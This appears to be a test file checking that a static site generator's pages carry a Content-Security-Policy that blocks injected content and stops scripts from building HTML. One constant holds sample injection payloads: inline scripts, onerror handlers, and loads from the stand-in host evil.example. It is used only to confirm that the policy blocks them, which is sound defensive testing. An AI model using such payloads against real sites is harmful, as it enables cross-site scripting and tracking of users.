import { readdir, readFile } from "node:fs/promises";
import { createServer } from "node:http";
import { extname, join } from "node:path";
import type { Browser, BrowserContext } from "playwright-core";
import { expect, inject, onTestFinished, test } from "vitest";
import { PAGE_POLICY } from "../../src/serve/security-policy.ts";
import { serve } from "../../src/serve/serve.ts";
import { scriptsRun, watchedPage } from "../payloads/open-fragments.ts";
import { fixtureSite } from "./fixture-sites.ts";
import { searchPage } from "./search-page.ts";
import { sharedBrowser } from "./shared-browser.ts";

const ARTICLE = `${fixtureSite.pathPrefix}2023/01/cuba-talks-resume/`;
const POLICY = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"\/?>/;
const TYPES: Readonly<Record<string, string>> = {
  ".html": "text/html",
  ".js": "text/javascript",
  ".css": "text/css",
  ".svg": "image/svg+xml",
};

const browser = await sharedBrowser();

/** A host that sends no header but a file's type, as many do; returns its address. */
async function bareHost(edit = (html: string) => html): Promise<string> {
  const server = createServer(async (request, response) => {
    const { pathname } = new URL(`http://localhost${request.url}`);
    const file = join(inject("sites"), pathname.endsWith("/") ? `${pathname}index.html` : pathname);
    const type = TYPES[extname(file)] ?? "application/octet-stream";
    const content = await readFile(file).catch(() => null);
    response.writeHead(content === null ? 404 : 200, { "Content-Type": type });
    response.end(type === "text/html" ? edit(String(content)) : content);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  onTestFinished(() => void server.closeAllConnections());
  onTestFinished(() => void server.close());
  const bound = server.address();
  if (bound === null || typeof bound === "string") throw new Error("the test's host has no port");
  return `http://localhost:${bound.port}`;
}

/** A page in a browser of its own, and what it did that no page may do. */
async function watched(settings: Parameters<Browser["newContext"]>[0] = {}) {
  const context: BrowserContext = await browser.newContext(settings);
  onTestFinished(() => context.close());
  return watchedPage(context);
}

test("every page carries the policy before a script, a link or anything else that it governs", async () => {
  const names = await readdir(inject("sites"), { recursive: true });
  const pages = names.filter((name) => name.endsWith(".html"));
  expect(pages.length).toBeGreaterThan(100);
  const begins = new RegExp(`^<!doctype html>\\s*<html[^>]*><head><meta charset="utf-8"/?>${POLICY.source}`);
  for (const page of pages) {
    const html = await readFile(join(inject("sites"), page), "utf8");
    expect([page, begins.exec(html)?.[1]]).toEqual([page, PAGE_POLICY]);
  }
});

/** What a page could hold at the worst: as if nothing had been escaped. */
const HOSTILE =
  "<script>alert(1)</script><img src=/none.svg onerror=print()><img src=https://evil.example/pixel>" +
  "<script src=https://evil.example/x.js></script><style>@import 'https://evil.example/x.css';</style>" +
  "<iframe src=https://evil.example/frame></iframe>";

async function openHostile(edit: (html: string) => string): Promise<readonly string[]> {
  const host = await bareHost((html) => edit(html).replace("</body>", `${HOSTILE}</body>`));
  const { page, misdeeds } = await watched();
  await page.goto(host + ARTICLE, { waitUntil: "networkidle" });
  const done = misdeeds.filter((misdeed) => !misdeed.startsWith("console: "));
  return [...done, ...(await scriptsRun(page))].toSorted();
}

test("without its policy a page runs what stands in it, and asks other hosts: the watch sees it", async () => {
  expect(await openHostile((html) => html.replace(POLICY, ""))).toEqual([
    ...["frame", "pixel", "x.css", "x.js"].map((file) => `request: https://evil.example/${file}`),
    "script: alert()",
    "script: print()",
  ]);
});

test("on a host that sends no policy a page's own lets none of it run, nor another host be asked", async () => {
  expect(await openHostile((html) => html)).toEqual([]);
});

test("under its own policy no string becomes HTML or a script, and nobody can make an exception", async () => {
  const host = await bareHost();
  const { page } = await watched();
  await page.goto(host + ARTICLE);
  const refused = await page.evaluate(() => {
    const types = (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } })
      .trustedTypes;
    const attempts: readonly (() => unknown)[] = [
      () => Object.assign(document.body, { innerHTML: "<b>b</b>" }),
      () => new DOMParser().parseFromString("<b>b</b>", "text/html"),
      () => document.write("<b>b</b>"),
      () => new Worker("/worker.js"),
      () => types.createPolicy("default", {}),
    ];
    return attempts.map((attempt) => {
      try {
        return String(attempt());
      } catch (error) {
        return error instanceof TypeError;
      }
    });
  });
  expect(refused).toEqual([true, true, true, true, true]);
});

test("under its own policy a page does all it should, in silence", async () => {
  const host = await bareHost();
  const { page, misdeeds } = await watched({ permissions: ["clipboard-read", "clipboard-write"] });
  const at = (path: string) => page.goto(new URL(path, host + fixtureSite.pathPrefix).href);

  await at("search/?q=cuba&region=USA");
  await page.locator(".row mark").first().waitFor();
  await searchPage(page).hits.first().click();
  await page.locator("article mark, h1 mark").first().waitFor();

  await at("about/");
  await page.locator(".search-box").getByRole("searchbox").fill("cuba");
  await page.locator(".search-box-hits a").first().waitFor();

  await page.goto(host + ARTICLE);
  await page.getByRole("button", { name: "Copy the Chicago citation" }).click();
  await page.getByRole("status").getByText("Copied").waitFor();

  await at("../single/2019/old-ferry/");
  await page.waitForURL(`${host}/single/2024/05/ferry/`);
  expect(misdeeds).toEqual([]);
});

test("a page of the development server reloads itself under its own policy", async () => {
  const server = await serve({ folder: inject("sites"), pathPrefix: "/", port: 0, liveReload: true });
  onTestFinished(() => server.close());
  const { page, misdeeds } = await watched();
  const listening = page.waitForResponse((response) => response.url().endsWith("/__reload"));
  await page.goto(server.address.replace(/\/$/, ARTICLE));
  await listening;
  const loaded = page.waitForEvent("load");
  server.reload();
  await loaded;
  expect(misdeeds).toEqual([]);
});
